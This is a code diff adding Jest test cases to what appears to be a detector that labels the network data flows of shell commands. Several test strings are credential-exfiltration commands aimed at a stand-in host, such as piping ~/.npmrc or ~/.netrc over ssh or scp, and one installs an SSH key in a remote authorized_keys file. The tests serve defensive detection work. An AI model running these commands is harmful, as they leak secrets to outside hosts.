@@ -51,6 +51,19 @@ describe('flows of a script text', () => {
   });
 
   test.each([
+    ['cat ~/.npmrc | ssh -p 22 a@h.example "cat > in"', ['secret.file']],
+    ['ssh a@h.example "echo $(cat ~/.netrc) > in"', ['secret.file']],
+    ['ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no a@h.example uptime', []],
+    ["ssh a@h.example 'cat ~/.ssh/authorized_keys'", []],
+    ['scp -i ~/.ssh/id_rsa dist.tgz a@h.example:/srv', []],
+    ['scp ~/.npmrc a@h.example:/in', ['secret.file']],
+    ['rsync -e "ssh -i ~/.ssh/id_rsa" -a dist/ a@h.example:/srv', []],
+    ['cat ~/.ssh/id_ed25519.pub | ssh a@h.example "cat >> .ssh/authorized_keys"', ['identity.host']],
+  ])('of ssh and its copies only what is sent: %s', (text, expected) => {
+    expect(flows(text, 'net.out')).toEqual(expected);
+  });
+
+  test.each([
     'sudo -n -u root node x.js',
     'sudo --user root -E node x.js',
     'nice -n 10 node x.js',
